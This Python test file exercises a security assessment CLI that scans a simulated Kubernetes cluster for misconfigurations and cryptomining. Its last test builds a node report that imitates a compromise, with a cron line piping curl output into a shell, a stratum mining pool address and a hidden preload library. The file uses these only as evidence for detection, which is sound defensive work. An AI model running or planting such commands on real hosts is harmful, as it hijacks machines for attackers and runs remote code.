"""`picket assess --kubeconfig` against an API server that speaks the real protocol, with the role that we ship and pages
of two: what a careless cluster is told, what a careful one is not, and what is said where the API refuses."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml
from kubernetes import builtin
from kubernetes.api import Api as KubernetesApi
from kubernetes.rbac import User
from kubernetes.server import Server
from kubernetes.static import Static
from kubernetes.store import Store
from kubernetes_objects import Object, careful, old_master, something_mines

ROOT = Path(__file__).resolve().parents[2]
PICKET = Path(os.environ.get("PICKET_CLI", ROOT / "target" / "debug" / "picket"))
READER = ROOT / "infra" / "kubernetes" / "reader.yaml"
TOKEN = "let-me-in"


def careless() -> list[Object]:
    """A kops master of 2018 with a miner on it."""
    return [*old_master(), *something_mines()]


class Api:
    """A cluster of nobody's, and a kubeconfig for it with a token of a group of readers."""

    def __init__(self, folder: Path, objects: list[Object], without: str = "") -> None:
        self.folder, store = folder, Store()
        roles = [found for found in yaml.safe_load_all(READER.read_text())]
        for found in [*builtin.objects("kubernetes"), *objects, *(less(role, without) for role in roles)]:
            store.put(found)
        tokens = Static({TOKEN: User("picket", ("picket:readers", "system:authenticated"))})
        self.server = Server(KubernetesApi(store, tokens, "v1.34.1", most_in_a_page=2))

    def kubeconfig(self, token: str = TOKEN) -> Path:
        file = self.folder / f"kubeconfig-{token}"
        cluster = {"server": self.server.endpoint, "certificate-authority-data": self.server.authority}
        file.write_text(json.dumps({
            "apiVersion": "v1", "kind": "Config", "current-context": "prod",
            "clusters": [{"name": "c", "cluster": cluster}],
            "users": [{"name": "u", "user": {"token": token}}],
            "contexts": [{"name": "prod", "context": {"cluster": "c", "user": "u"}}],
        }))
        return file


def less(role: Object, resource: str) -> Object:
    """A role without the lists of one resource."""
    kept = [{**r, "resources": [x for x in r["resources"] if x != resource]} for r in role.get("rules", [])]
    return {**role, "rules": kept} if "rules" in role else role


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Any]:
    started: list[Api] = []

    def start(objects: list[Object], without: str = "") -> Api:
        started.append(Api(tmp_path, objects, without))
        return started[-1]

    yield start
    for api in started:
        api.server.stop()


def assess(kubeconfig: Path) -> tuple[int, dict[str, Any]]:
    done = subprocess.run(
        [PICKET, "assess", "--kubeconfig", kubeconfig, "--evaluations", "--output", "json"],
        capture_output=True, text=True, timeout=120, env={"PATH": os.environ["PATH"], "HOME": str(kubeconfig.parent)},
    )
    assert done.stdout, done.stderr
    return done.returncode, json.loads(done.stdout)


def found(answer: Any) -> set[str]:
    """The rules of all findings, wherever in the answer they are."""
    if isinstance(answer, dict):
        own = {answer["rule"]} if "first_seen" in answer and "rule" in answer else set()
        return own.union(*(found(v) for v in answer.values()))
    return set().union(*(found(v) for v in answer)) if isinstance(answer, list) else set()


def test_a_careless_cluster_is_told_what_is_wrong(serve: Any) -> None:
    code, answer = assess(serve(careless()).kubeconfig())
    assert code == 1
    expected = {
        "kubernetes_api_server_anonymous_off",
        "kubernetes_api_server_authorization_checks",
        "kubernetes_anonymous_not_bound",
        "kubernetes_cluster_admin_sparingly",
        "kubernetes_containers_not_privileged",
        "kubernetes_default_namespace_unused",
        "kubernetes_legacy_flags_absent_basic_auth_file",
        "kubernetes_legacy_insecure_port_off",
        "kubernetes_namespace_network_policies",
        "kubernetes_pods_without_host_pid",
        "mining_everybody_bound",
        "mining_workload_with_a_miners_marks",
    }
    assert expected <= found(answer), expected - found(answer)


def test_a_careful_cluster_is_left_in_peace(serve: Any) -> None:
    _, answer = assess(serve(careful()).kubeconfig())
    benchmark = {r for r in found(answer) if r.startswith(("mining_", "kubernetes_namespace_", "kubernetes_containers_not"))}
    assert benchmark == set()
    assert "kubernetes_network_policies_enforced" not in found(answer)


def test_a_denied_list_is_unknown_with_the_grant_that_is_missing(serve: Any) -> None:
    _, answer = assess(serve(careless(), without="roles").kubeconfig())
    text = json.dumps(answer)
    assert "infra/kubernetes/reader.yaml" in text
    assert "kubernetes_cluster_admin_sparingly" not in found(answer)
    assert "mining_workload_with_a_miners_marks" in found(answer)


def test_a_token_that_the_cluster_does_not_know_is_said_and_nothing_passes(serve: Any) -> None:
    _, answer = assess(serve(careless()).kubeconfig(token="stranger"))
    assert "access entry" in json.dumps(answer)
    assert found(answer) == set()


def test_what_goes_on_in_a_node_raises_its_instance_with_the_evidence(tmp_path: Path) -> None:
    report = tmp_path / "i-0123456789abcdef0.json"
    report.write_text(json.dumps({
        "schema": 1, "at": "2026-11-26T00:00:00Z",
        "processes": {"7": {"argv": ["/tmp/x", "-o", "stratum+tcp://pool.supportxmr.com:443"]}},
        "sockets": {"to_pools": [{"address": "203.0.113.9", "port": 3333, "pid": "7"}]},
        "mining": {"preload": ["/usr/local/lib/hide.so"], "cron": ["* * * * * root curl x | sh"], "programs": ["/tmp/x"]},
    }))
    done = subprocess.run(
        [PICKET, "assess", "--node", report, "--output", "json"],
        capture_output=True, text=True, timeout=120, env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)},
    )
    assert done.stdout, done.stderr
    risk = json.loads(done.stdout)["assets"][0]
    assert risk["asset"] == "ec2.instance/i-0123456789abcdef0" and risk["score"] >= 95
    mines, hides = risk["reasons"][:2]
    assert (mines["signal"], hides["signal"]) == ("live_critical", "live_high")
    assert "stratum" in mines["evidence"] and "203.0.113.9:3333" in mines["evidence"], mines
    for sign in ("hide.so", "curl x | sh", "/tmp/x"):
        assert sign in hides["evidence"], hides
